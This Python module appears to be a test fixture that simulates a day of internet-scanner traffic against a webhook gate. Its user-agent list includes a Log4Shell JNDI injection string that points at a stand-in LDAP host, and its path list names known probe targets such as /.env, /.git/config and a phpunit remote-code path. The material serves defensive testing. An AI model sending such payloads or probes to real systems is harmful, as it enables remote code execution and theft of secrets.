"""What an endpoint on the internet gets from whoever scans it: a day of it, always the same."""

import random
from collections.abc import Iterator
from typing import NamedTuple

from hookgate.policy import Fields, Head, make_head

DAY = 86_400.0

_AGENTS = (
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    b"Mozilla/5.0 zgrab/0.x",
    b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    b"python-requests/2.31.0",
    b"curl/8.5.0",
    b"Go-http-client/1.1",
    b"${jndi:ldap://198.51.100.99:1389/a}",
    b"",
)
_PATHS = (
    b"/", b"/.env", b"/wp-login.php", b"/.git/config", b"/phpmyadmin/index.php", b"/actuator/env",
    b"/cgi-bin/luci/;stok=/locale", b"/boaform/admin/formLogin", b"/api/v1/pods", b"/graphql",
    b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", b"/webhook", b"/cm", b"/cm/events/",
)  # fmt: skip
_FORM = (b"Content-Type", b"application/x-www-form-urlencoded")
_JSON = (b"Content-Type", b"application/json")


class Knock(NamedTuple):
    """One request: when, in seconds of the day, and its head."""

    at: float
    head: Head


def noise(path: bytes, requests: int, seed: int = 15_447) -> Iterator[Knock]:
    """So many requests of a day, in order. Some know `path`, the one that the provider posts to."""
    draw = random.Random(seed)
    for at in sorted(draw.uniform(0, DAY) for _ in range(requests)):
        client = ".".join(str(draw.randrange(1, 224)) for _ in range(4))
        yield Knock(at, draw.choice(_KINDS)(draw, client, path))


def five_minute_scanner(path: bytes) -> Iterator[Knock]:
    """One that posts JSON to the very path each five minutes, by another client's library."""
    agent = (b"User-Agent", b"python-requests/2.31.0")
    also = ((b"Accept-Encoding", b"gzip, deflate"), (b"Accept", b"*/*"), (b"Connection", b"close"))
    for number in range(int(DAY / 300)):
        fields = [(b"Host", b"gate"), agent, *also, _JSON, (b"Content-Length", b"300")]
        yield Knock(300.0 * number, make_head("198.51.100.7", b"POST", path, fields))


def _get(draw: random.Random, client: str, path: bytes) -> Head:
    method = draw.choice((b"GET", b"GET", b"GET", b"HEAD", b"OPTIONS", b"PROPFIND"))
    return _head(draw, client, method, draw.choice((*_PATHS, path)), [])


def _post_form(draw: random.Random, client: str, path: bytes) -> Head:
    return _head(draw, client, b"POST", draw.choice((*_PATHS, path)), [_FORM])


def _post_json(draw: random.Random, client: str, path: bytes) -> Head:
    return _head(draw, client, b"POST", draw.choice(_PATHS), [_JSON])


def _post_json_to_the_path(draw: random.Random, client: str, path: bytes) -> Head:
    return _head(draw, client, b"POST", path, [_JSON])


_KINDS = (_get, _get, _get, _get, _post_form, _post_json, _post_json_to_the_path)


def _head(draw: random.Random, client: str, method: bytes, target: bytes, fields: Fields) -> Head:
    found = [(b"Host", b"gate"), (b"User-Agent", draw.choice(_AGENTS))]
    some = ((b"Accept", b"*/*"), (b"Accept-Encoding", b"gzip"), (b"Connection", b"close"))
    found += [field for field in some if draw.random() < 0.6]
    if method == b"POST":
        found.append((b"Content-Length", b"%d" % draw.choice((0, 2, 17, 120, 300, 90_000))))
    return make_head(client, method, target, [*found, *fields])
